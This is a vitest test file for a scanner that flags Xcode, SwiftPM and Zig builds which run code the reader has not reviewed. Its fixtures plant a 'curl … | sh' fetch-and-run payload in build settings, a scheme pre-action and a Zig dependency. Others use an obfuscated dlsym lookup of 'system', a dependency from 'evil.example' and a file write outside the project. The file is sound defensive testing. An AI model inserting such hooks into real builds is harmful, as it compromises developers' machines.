// Xcode, SwiftPM and Zig builds read for what runs (issue 11; the mobile review, from Apple's, Swift's and Zig's
// documentation: none installable here): an Xcode legacy target's build tool, build settings naming the compiler or a
// compiler plugin, a scheme's pre-action script; a Package.swift calling a C function through `dlsym`, and a local
// package dependency's manifest; a build.zig reaching the file system or C, build.zig.zon dependencies from a host
// nobody stated or a folder outside, and a path dependency's build.zig. Real folders in a temp directory; nothing run.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { buildRepository, flaggedIn, runIn } from '../testdata/build-repository';
import type { DiskProject } from '../testdata/disk-reader';

const PBX = (body: string) => `// !$*UTF8*$!\n{\n\tobjects = {\n${body}\n\t};\n\trootObject = 1;\n}\n`;
const MANIFEST = (extra: string) =>
  `// swift-tools-version:5.9\nimport PackageDescription\n${extra}let package = Package(name: "App", targets: [.target(name: "App")])\n`;
const ZIG = 'const std = @import("std");\npub fn build(b: *std.Build) void {\n    _ = b;\n}\n';
const PAYLOAD = 'curl -s http://203.0.113.7/x | sh';

let p: DiskProject;
beforeAll(async () => {
  await loadShellParser();
  p = buildRepository('gavel-apple-zig-', {
    'legacy/App.xcodeproj/project.pbxproj': PBX(
      `\t\tA1 = {\n\t\t\tisa = PBXLegacyTarget;\n\t\t\tbuildToolPath = /bin/sh;\n\t\t\tbuildArgumentsString = "-c \\"${PAYLOAD}\\"";\n\t\t};`,
    ),
    'cc/App.xcodeproj/project.pbxproj': PBX(
      '\t\tB1 = {\n\t\t\tisa = XCBuildConfiguration;\n\t\t\tbuildSettings = {\n\t\t\t\tCC = "$(SRCROOT)/tools/cc";\n\t\t\t};\n\t\t};',
    ),
    'scheme/App.xcodeproj/project.pbxproj': PBX(''),
    'scheme/App.xcodeproj/xcshareddata/xcschemes/App.xcscheme': `<?xml version="1.0"?>\n<Scheme><BuildAction><PreActions><ExecutionAction ActionType = "Xcode.IDEStandardExecutionActionsCore.ExecutionActionType.ShellScriptAction"><ActionContent scriptText = "${PAYLOAD}"/></ExecutionAction></PreActions></BuildAction></Scheme>\n`,
    'okx/App.xcodeproj/project.pbxproj': PBX(
      '\t\tB1 = {\n\t\t\tisa = XCBuildConfiguration;\n\t\t\tbuildSettings = {\n\t\t\t\tSWIFT_VERSION = 5.0;\n\t\t\t};\n\t\t};',
    ),
    'okx/App.xcodeproj/xcshareddata/xcschemes/App.xcscheme':
      '<?xml version="1.0"?>\n<Scheme><BuildAction parallelizeBuildables = "YES"/></Scheme>\n',
    'dlsym/Package.swift': MANIFEST(
      `let f = dlsym(UnsafeMutableRawPointer(bitPattern: -2), "sys" + "tem")\n`,
    ),
    'swdep/Package.swift': MANIFEST('let deps: [Package.Dependency] = [.package(path: "vendor/dep")]\n'),
    'swdep/vendor/dep/Package.swift': `import PackageDescription\nimport Foundation\nlet p = Process()\n`,
    'swver/Package.swift': MANIFEST(''),
    'swver/Package@swift-5.9.swift': `import PackageDescription\nimport Foundation\nlet p = Process()\n`,
    'zfs/build.zig': `const std = @import("std");\npub fn build(b: *std.Build) void {\n    _ = b;\n    _ = std.fs.cwd().createFile("../../x", .{}) catch {};\n}\n`,
    'zurl/build.zig': ZIG,
    'zurl/build.zig.zon':
      '.{ .name = "app", .dependencies = .{ .evil = .{ .url = "https://evil.example/e.tar.gz", .hash = "1220" } } }\n',
    'zpath/build.zig': ZIG,
    'zpath/build.zig.zon': '.{ .name = "app", .dependencies = .{ .dep = .{ .path = "libs/dep" } } }\n',
    'zpath/libs/dep/build.zig': `const std = @import("std");\npub fn build(b: *std.Build) void {\n    _ = b.addSystemCommand(&.{ "sh", "-c", "${PAYLOAD}" });\n}\n`,
    'zout/build.zig': ZIG,
    'zout/build.zig.zon': '.{ .name = "app", .dependencies = .{ .dep = .{ .path = "../../../tmp/dep" } } }\n',
    'zok/build.zig': ZIG,
    'zok/build.zig.zon': '.{ .name = "app", .version = "0.1.0", .paths = .{ "build.zig", "src" } }\n',
  });
});
afterAll(() => p?.remove());

const run = (dir: string, command: string) => runIn(p, dir, command);
const flagged = (dir: string, command: string) => flaggedIn(p, dir, command);

describe('builds that run what the reader had not read are not quiet', () => {
  it.each([
    ['an Xcode legacy target', 'legacy', 'xcodebuild -project App.xcodeproj build'],
    ['a compiler named in the build settings', 'cc', 'xcodebuild -project App.xcodeproj build'],
    ["a scheme's pre-action", 'scheme', 'xcodebuild -project App.xcodeproj -scheme App test'],
    ['a C function reached through dlsym', 'dlsym', 'swift build'],
    ["a local dependency's manifest", 'swdep', 'swift build'],
    ['build.zig writing a file', 'zfs', 'zig build'],
    ['a manifest for the Swift version, which SwiftPM prefers', 'swver', 'swift build'],
    ['a dependency from a host nobody stated', 'zurl', 'zig build'],
    ["a path dependency's build.zig", 'zpath', 'zig build test'],
    ['a path dependency outside the workspace', 'zout', 'zig build'],
  ])('%s: %s', (_n, dir, command) => {
    expect(flagged(dir, command)).toBe(true);
  });

  it('ordinary projects stay quiet', () => {
    expect(run('okx', 'xcodebuild -project App.xcodeproj -scheme App build').codes).toEqual([]);
    expect(run('zok', 'zig build test').codes).toEqual([]);
  });
});
